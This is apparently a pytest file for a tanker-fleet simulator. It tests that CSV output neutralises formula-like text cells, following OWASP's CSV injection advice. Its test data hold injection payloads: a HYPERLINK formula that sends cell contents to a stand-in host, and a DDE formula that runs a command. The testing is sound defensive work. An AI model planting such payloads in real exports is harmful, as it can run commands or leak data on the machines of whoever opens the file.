"""Safe CSV: no text cell of a CSV tankersim writes is one a spreadsheet would run as a
formula (OWASP's CSV injection advice); numbers stay numbers."""

from __future__ import annotations

import csv
import json
import math
from pathlib import Path

import numpy as np
import pandas as pd
from conftest import SCENARIOS
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from sim.cli import app
from sim.core.csvsafe import (
    FORMULA_START,
    neutralise_cell,
    restore_cell,
    restore_formulas,
    safe_for_csv,
)
from sim.outputs.files import write_table

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "x\r=1+1",
]
"""Cells a spreadsheet would run, one per formula character."""

_TEXT = st.one_of(
    st.text(max_size=12),
    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", " "]), st.text(max_size=8)).map(
        "".join
    ),
)
"""Text, often beginning with a formula character (or an apostrophe, or a space)."""


def _starts_like_a_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def _expected(value: str) -> str:
    """What a text cell must become: an apostrophe in front when it begins like a formula,
    carriage returns as line feeds."""
    out = "'" + value if value.startswith(FORMULA_START) else value
    return out.replace("\r\n", "\n").replace("\r", "\n")


@st.composite
def _frames(draw: st.DrawFn) -> pd.DataFrame:
    n = draw(st.integers(0, 8))
    texts = draw(st.lists(_TEXT, min_size=n, max_size=n))
    floats = draw(st.lists(st.floats(allow_nan=True, allow_infinity=True), min_size=n, max_size=n))
    ints = draw(st.lists(st.integers(-(10**12), 10**12), min_size=n, max_size=n))
    mixed = draw(
        st.lists(st.one_of(_TEXT, st.floats(-1e6, 1e6), st.none()), min_size=n, max_size=n)
    )
    names = draw(st.lists(_TEXT, min_size=n, max_size=n))
    return pd.DataFrame(
        {
            "text": pd.Series(texts, dtype=object),
            "x": pd.Series(floats, dtype=float),
            "n": pd.Series(ints, dtype=np.int64),
            "mixed": pd.Series(mixed, dtype=object),
            "ship": pd.Series(names, dtype="category"),
            "string": pd.Series(texts, dtype="string"),
            "-neg": pd.Series([-v for v in ints], dtype=np.int64),
        }
    )


@settings(max_examples=300, deadline=None)
@given(df=_frames())
def test_no_text_cell_starts_like_a_formula_and_nothing_else_changes(df: pd.DataFrame) -> None:
    before = df.copy(deep=True)
    out = safe_for_csv(df)
    pd.testing.assert_frame_equal(df, before)  # the input is not modified
    assert list(out.columns) == ["text", "x", "n", "mixed", "ship", "string", "'-neg"]
    # numbers stay numbers: same dtype, same values (negative ones too)
    for col, new in (("x", "x"), ("n", "n"), ("-neg", "'-neg")):
        pd.testing.assert_series_equal(out[new], df[col], check_names=False)
    for col in ("text", "mixed", "ship", "string"):
        for old, new in zip(df[col], out[col], strict=True):
            assert not _starts_like_a_formula(new) and not (isinstance(new, str) and "\r" in new)
            if isinstance(old, str):
                assert new == _expected(old)  # unchanged unless it began like a formula or had a CR
            elif isinstance(old, float) and math.isnan(old):
                assert isinstance(new, float) and math.isnan(new)
            else:
                assert new == old or (old is None and new is None)  # not text: as it was
    # and undone exactly for every cell that did not begin with an apostrophe or hold a CR
    back = restore_formulas(out)
    assert list(back.columns) == [c.replace("\r", "\n") for c in df.columns]
    for col in ("text", "mixed", "ship", "string"):
        for old, new in zip(df[col], back[col], strict=True):
            if isinstance(old, str) and not old.startswith("'") and "\r" not in old:
                assert new == old


@settings(max_examples=500, deadline=None)
@given(value=_TEXT)
def test_a_cell_is_quoted_exactly_when_it_starts_like_a_formula(value: str) -> None:
    safe = neutralise_cell(value)
    assert not safe.startswith(FORMULA_START) and "\r" not in safe
    assert safe == _expected(value)
    if not value.startswith("'") and "\r" not in value:
        assert restore_cell(safe) == value


def test_a_table_without_formulas_is_returned_as_it_is() -> None:
    df = pd.DataFrame({"ship": ["YU SON", "'quoted"], "x": [-1.0, 2.0]})
    assert safe_for_csv(df) is df


def _cells(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def _numeric(values: list[str]) -> bool:
    """Whether a CSV column holds numbers (or nothing) only."""
    for v in values:
        if v == "":
            continue
        try:
            float(v)
        except ValueError:
            return False
    return True


def _formula_cells(path: Path) -> list[tuple[str, str]]:
    """(column, cell) for every text cell (a cell of a column that is not all numbers) and
    column name of a CSV file that begins with ``=``, ``+``, ``-``, ``@``, a tab or a CR."""
    header, rows = _cells(path)
    bad = [("<header>", h) for h in header if h.startswith(FORMULA_START)]
    for j, name in enumerate(header):
        column = [r[j] for r in rows]
        if not _numeric(column):
            bad += [(name, v) for v in column if v.startswith(FORMULA_START)]
    return bad


def test_write_table_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    df = pd.DataFrame(
        {
            "ship": pd.Series(HOSTILE, dtype="category"),
            "note": HOSTILE[::-1],
            "delta": np.arange(len(HOSTILE)) - 3.5,
            "n": np.arange(-3, len(HOSTILE) - 3),
        }
    )
    csv_path = write_table(df, tmp_path / "t.csv")
    assert b"\r" not in csv_path.read_bytes()
    assert _formula_cells(csv_path) == []
    header, rows = _cells(csv_path)
    assert header == ["ship", "note", "delta", "n"]
    assert [r[0] for r in rows] == [_expected(h) for h in HOSTILE]
    assert all(len(r) == 4 for r in rows)  # a CR in a cell does not end its row
    assert [r[3] for r in rows] == [str(i) for i in range(-3, len(HOSTILE) - 3)]
    back = pd.read_csv(csv_path, keep_default_na=False)
    assert back["delta"].tolist() == df["delta"].tolist()
    assert restore_formulas(back)["note"].tolist() == [h.replace("\r", "\n") for h in HOSTILE[::-1]]
    # Parquet is not a spreadsheet's format: written as the data are
    pq = write_table(df, tmp_path / "t.parquet")
    assert pd.read_parquet(pq)["note"].tolist() == HOSTILE[::-1]


def _all_csv(folder: Path) -> list[Path]:
    """Every CSV a command wrote (the evidence file is a byte copy of its input, not written
    by tankersim)."""
    return sorted(p for p in folder.rglob("*.csv") if not p.name.endswith(".evidence.csv"))


def test_run_with_hostile_ship_names_writes_no_formula(tmp_path: Path) -> None:
    names = ['=HYPERLINK("http://example.invalid")', "-2+3", "@SUM(A1)", "+1", "BRAVO"]
    out = tmp_path / "run"
    res = CliRunner().invoke(
        app,
        ["run", str(SCENARIOS / "minimal.toml"), "--out", str(out), "--no-map",
         "--events-format", "csv", "--set", f"fleet.tanker.names={json.dumps(names)}"],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    written = _all_csv(out)
    assert {p.name for p in written} >= {"ships.csv", "events.csv", "tracks.csv"}
    for path in written:
        assert _formula_cells(path) == [], path.name
    ships = pd.read_csv(out / "ships.csv", keep_default_na=False)
    shown = set(ships.iloc[:, 0])
    assert {"'" + n for n in names[:4]} | {"BRAVO"} == shown
    events = pd.read_csv(out / "events.csv", keep_default_na=False)
    assert (events["t_h"] >= 0).all() and pd.api.types.is_float_dtype(events["t_h"])
    # tankersim reading its own CSV back gets the names as they were
    from sim.model.events import read_csv_events

    assert set(read_csv_events(out / "events.csv")["ship"].astype(str)) == set(names)


def test_mc_checks_keep_their_relation_as_text(tmp_path: Path) -> None:
    """The model checks write relations such as ``= 43 visits``: the CSV holds them behind an
    apostrophe, and every other CSV of the batch has no formula either."""
    out = tmp_path / "mc"
    res = CliRunner().invoke(
        app, ["mc", str(SCENARIOS / "osc-2024.toml"), "-n", "20", "--out", str(out), "--no-plots"]
    )
    assert res.exit_code == 0, res.output
    for path in _all_csv(out):
        assert _formula_cells(path) == [], path.name
    checks = pd.read_csv(out / "checks.csv", keep_default_na=False).set_index("id")
    assert checks.loc["osc-visits", "reported"] == "'= 43 visits"
    assert (
        restore_formulas(checks.reset_index()).set_index("id").loc["osc-visits", "reported"]
        == "= 43 visits"
    )
    # the report reads the relation back as it was written, not behind its apostrophe
    from sim.outputs.report import read_run

    table = read_run(out).table("checks.csv")
    assert table is not None
    assert table.set_index("id").loc["osc-visits", "reported"] == "= 43 visits"


def test_sbc_tables_are_written_safely(tmp_path: Path) -> None:
    from sim.runner.sbc import SbcResult, write_sbc

    ranks = np.linspace(0.05, 0.95, 10)
    table = pd.DataFrame({"truth": range(10), "rank:=x": ranks, "rank:seen_bbl": ranks[::-1]})
    write_sbc(SbcResult(table, ("=x",), 100, "independent", 1.0, "exact"), tmp_path)
    for name in ("sbc.csv", "sbc-coverage.csv"):
        assert _formula_cells(tmp_path / name) == [], name
    coverage = pd.read_csv(tmp_path / "sbc-coverage.csv")
    assert coverage["quantity"].tolist() == ["'=x", "seen_bbl"]
    assert coverage["truths"].tolist() == [10, 10]
    back = pd.read_csv(tmp_path / "sbc.csv")
    assert back["rank:=x"].tolist() == ranks.tolist()  # a column name in the middle is kept


def test_calibrate_with_hostile_sources_writes_no_formula(tmp_path: Path) -> None:
    """Evidence with sources and notes that read as formulas, through calibrate: every CSV
    the calibration writes (the predictive check with its relations, the diagnostics, the
    posterior) holds no cell a spreadsheet would run."""
    import csv
    import io

    from conftest import copy_scenario

    scenario = copy_scenario("osc-2024.toml", tmp_path)
    evidence = tmp_path / "osc-2024.evidence.csv"
    rows = list(csv.DictReader(io.StringIO(evidence.read_text(encoding="utf-8"))))
    payloads = ['=HYPERLINK("http://example.invalid")', "@SUM(1+1)", "+1", "-2+3"]
    for k, row in enumerate(rows):
        row["source"] = payloads[k % len(payloads)] + " " + row["source"]
        row["note"] = payloads[(k + 1) % len(payloads)]
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    evidence.write_text(buf.getvalue(), encoding="utf-8")
    out = tmp_path / "cal"
    res = CliRunner().invoke(
        app,
        ["calibrate", str(scenario), "--population", "40", "--generations", "1", "-n", "1",
         "--no-compare", "--executor", "serial", "--no-plots", "--out", str(out)],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    written = _all_csv(out)
    assert {p.name for p in written} >= {"predictive.csv", "diagnostics.csv", "posterior.csv"}
    for path in written:
        assert _formula_cells(path) == [], path.name
    # formula-like text did reach a table (the tool's own relations, "= 43 visits", at least),
    # neutralised: the test can fail
    assert any("'=" in p.read_text(encoding="utf-8") for p in written)
